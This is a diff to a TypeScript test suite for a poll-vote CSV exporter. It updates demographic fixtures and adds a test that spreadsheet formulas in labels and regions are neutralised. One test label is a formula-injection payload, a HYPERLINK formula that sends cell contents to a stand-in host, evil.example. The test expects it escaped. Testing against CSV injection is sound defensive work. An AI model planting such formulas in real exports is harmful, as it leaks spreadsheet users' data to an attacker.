@@ -33,7 +33,13 @@ const exporter = (overrides: Partial<ExporterDeps> = {}) => exporterFor(api.tabl
 const newPoll = async (overrides: Record<string, unknown> = {}) => {
   const { data, errors } = await api.call(
     'Mutation.createPoll',
-    { input: pollInput({ demographicFields: ['AGE_GROUP', 'REGION', 'GENDER'], ...overrides }) },
+    {
+      input: pollInput({
+        demographicFields: ['AGE_GROUP', 'REGION', 'GENDER'],
+        regions: ['EU', 'US'],
+        ...overrides,
+      }),
+    },
     callers.admin,
   );
   expect(errors).toEqual([]);
@@ -73,12 +79,12 @@ const sorted = (values: string[]) => [...values].sort();
 describe('the exporter', () => {
   it('exports every vote exactly once over three runs with votes arriving between them', async () => {
     const pollId = await newPoll();
-    const cast = await castVotes(pollId, 5, { demographics: { ageGroup: '18-24', region: 'EU' } });
+    const cast = await castVotes(pollId, 5, { demographics: { ageGroup: '18_24', region: 'EU' } });
 
     const first = await exporter().run();
     cast.push(...(await castVotes(pollId, 4)));
     const second = await exporter().run();
-    cast.push(...(await castVotes(pollId, 3, { demographics: { gender: 'F' } })));
+    cast.push(...(await castVotes(pollId, 3, { demographics: { gender: 'WOMAN' } })));
     const third = await exporter().run();
 
     const runs = [first, second, third].map((run) => run.polls.find((poll) => poll.pollId === pollId));
@@ -89,11 +95,11 @@ describe('the exporter', () => {
       poll_id: pollId,
       option_id: 'opt1',
       option_label: 'Red',
-      age_group: '18-24',
+      age_group: '18_24',
       region: 'EU',
       gender: '',
     });
-    expect(rows.find((row) => row.vote_id === cast[11])).toMatchObject({ age_group: '', gender: 'F' });
+    expect(rows.find((row) => row.vote_id === cast[11])).toMatchObject({ age_group: '', gender: 'WOMAN' });
   });
 
   it('writes nothing for a poll without new votes', async () => {
@@ -213,16 +219,25 @@ describe('the exporter', () => {
     expect(header).toEqual([...CSV_COLUMNS]);
   });
 
-  it('quotes labels and answers holding commas, quotes and line breaks', async () => {
-    const labels = ['Red, dark', 'Say "hi"', 'Two\nlines'];
-    const pollId = await newPoll({ options: labels.map((label) => ({ label })) });
-    await castVotes(pollId, 3, { demographics: { region: 'North, "far"\r\nside' } });
+  it('quotes labels and answers holding commas and quotes, and neutralises formulas', async () => {
+    const labels = ['Red, dark', 'Say "hi"', '=HYPERLINK("http://evil.example/?"&A1,"Click")', '-1'];
+    const pollId = await newPoll({
+      options: labels.map((label) => ({ label })),
+      regions: ['North, "far" side', '@home'],
+    });
+    await castVotes(pollId, 3, { demographics: { region: 'North, "far" side' } });
+    await castVotes(pollId, 1, { demographics: { region: '@home' } });
+    await castVotes(pollId, 1, { optionId: 'opt4' });
 
     await exporter().run();
 
     const rows = await exportedRows(pollId);
-    expect(sorted(rows.map((row) => row.option_label as string))).toEqual(sorted(labels));
-    expect(rows.map((row) => row.region)).toEqual(Array(3).fill('North, "far"\r\nside'));
+    expect(sorted(rows.map((row) => row.option_label as string))).toEqual(
+      sorted(['Red, dark', 'Red, dark', 'Say "hi"', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, '-1']),
+    );
+    expect(sorted(rows.map((row) => row.region as string))).toEqual(
+      sorted(['North, "far" side', 'North, "far" side', 'North, "far" side', "'@home", '']),
+    );
   });
 
   it('holds back votes younger than the lag until a later run', async () => {
